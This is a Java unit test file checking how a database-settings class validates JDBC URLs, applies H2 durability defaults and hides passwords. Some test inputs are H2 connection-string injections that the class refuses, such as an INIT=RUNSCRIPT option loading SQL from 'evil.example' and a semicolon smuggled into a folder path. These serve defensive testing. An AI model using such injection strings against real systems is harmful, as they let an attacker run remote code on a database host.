package io.serversence.database;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class DatabaseSettingsTest {
  private static final Path DATA = Path.of("/var/lib/serversence");

  private static DatabaseSettings url(String url) {
    return DatabaseSettings.of(url, null, null, null, DATA);
  }

  @Test
  void by_default_it_is_h2_in_the_data_folder_and_loses_nothing() {
    assertThat(DatabaseSettings.of(null, null, null, null, DATA))
        .isEqualTo(
            new DatabaseSettings(
                "jdbc:h2:file:/var/lib/serversence/serversence"
                    + ";WRITE_DELAY=0;DB_CLOSE_ON_EXIT=FALSE;TRACE_LEVEL_FILE=0",
                "sa",
                "",
                null));
  }

  @Test
  void a_relative_data_folder_becomes_an_absolute_one() {
    assertThat(DatabaseSettings.of(null, null, null, null, Path.of("data", ".", "x")).url())
        .startsWith("jdbc:h2:file:" + Path.of("data/x/serversence").toAbsolutePath() + ";");
  }

  @Test
  void a_data_folder_cannot_smuggle_options_in() {
    Path evil = Path.of("/data/x;INIT=RUNSCRIPT FROM 'y'");
    assertThatThrownBy(() -> DatabaseSettings.of(null, null, null, null, evil))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessage("the data folder must not have a semicolon in its path");
  }

  @Test
  void every_property_of_a_postgresql_is_taken() {
    assertThat(
            DatabaseSettings.of(
                "jdbc:postgresql://db.example:5432/serversence?sslmode=require",
                "ann",
                "secret",
                null,
                DATA))
        .isEqualTo(
            new DatabaseSettings(
                "jdbc:postgresql://db.example:5432/serversence?sslmode=require",
                "ann",
                "secret",
                null));
  }

  @Test
  void an_h2_address_needs_no_user_and_may_have_one() {
    assertThat(url("jdbc:h2:file:/x/y").user()).isEqualTo("sa");
    assertThat(url("jdbc:h2:file:/x/y").password()).isEmpty();
    DatabaseSettings own = DatabaseSettings.of("jdbc:h2:file:/x/y", "ann", "secret", null, DATA);
    assertThat(own.user()).isEqualTo("ann");
    assertThat(own.password()).isEqualTo("secret");
  }

  @Test
  void a_pool_of_the_server_wins_over_an_address() {
    DatabaseSettings pool = DatabaseSettings.of("nonsense", "u", "p", "java:app/jdbc/x", DATA);
    assertThat(pool).isEqualTo(new DatabaseSettings("", null, null, "java:app/jdbc/x"));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "jdbc:h2:file:/x|;WRITE_DELAY=0;DB_CLOSE_ON_EXIT=FALSE;TRACE_LEVEL_FILE=0",
        "jdbc:h2:file:/x;CACHE_SIZE=1000|"
            + ";CACHE_SIZE=1000;WRITE_DELAY=0;DB_CLOSE_ON_EXIT=FALSE;TRACE_LEVEL_FILE=0",
        "jdbc:h2:file:/x;write_delay=100|;write_delay=100;DB_CLOSE_ON_EXIT=FALSE;TRACE_LEVEL_FILE=0",
        "jdbc:h2:file:/x;Db_Close_On_Exit=TRUE|;Db_Close_On_Exit=TRUE;WRITE_DELAY=0;TRACE_LEVEL_FILE=0",
        "jdbc:h2:file:/x;MAX_COMPACT_TIME=1|"
            + ";MAX_COMPACT_TIME=1;WRITE_DELAY=0;DB_CLOSE_ON_EXIT=FALSE;TRACE_LEVEL_FILE=0",
      })
  void what_makes_h2_durable_is_added_where_it_is_not_said(String given, String options) {
    assertThat(url(given).url()).isEqualTo("jdbc:h2:file:/x" + options);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
        "init=x",
        " INIT=x",
        "I\\NIT=x",
        "TRACE_LEVEL_FILE=3",
        "AUTO_SERVER=TRUE",
        "FILE_LOCK=NO",
        "DB_CLOSE_DELAY=-1",
        "IFEXISTS=TRUE;INIT=x",
        "CACHE_SIZE=1;INIT=x",
        "AUTHENTICATOR_REALM=x",
        "",
      })
  void other_options_of_h2_are_refused(String options) {
    assertThatThrownBy(() -> url("jdbc:h2:file:/x;" + options))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageStartingWith("must not have the H2 option ");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x",
        "jdbc:h2:tcp://db.example/x",
        "jdbc:h2:/x",
        "jdbc:h2:zip:/x.zip!/y",
        "jdbc:mysql://db.example/x",
        "postgresql://db.example/x",
        " jdbc:postgresql://db.example/x",
        "JDBC:POSTGRESQL://db.example/x",
        "x",
        ""
      })
  void other_databases_are_refused(String url) {
    assertThatThrownBy(() -> url(url))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessage("must begin with jdbc:h2:file: or jdbc:postgresql:");
  }

  @Test
  void no_password_is_shown() {
    DatabaseSettings settings =
        DatabaseSettings.of(
            "jdbc:postgresql://db.example/x?password=s3cret&user=u", "u", "s3cret", null, DATA);
    assertThat(settings.toString()).isEqualTo("DatabaseSettings[jdbc:postgresql://db.example/x]");
    assertThat(DatabaseSettings.of(null, null, null, "java:app/x", DATA))
        .hasToString("DatabaseSettings[java:app/x]");
  }
}
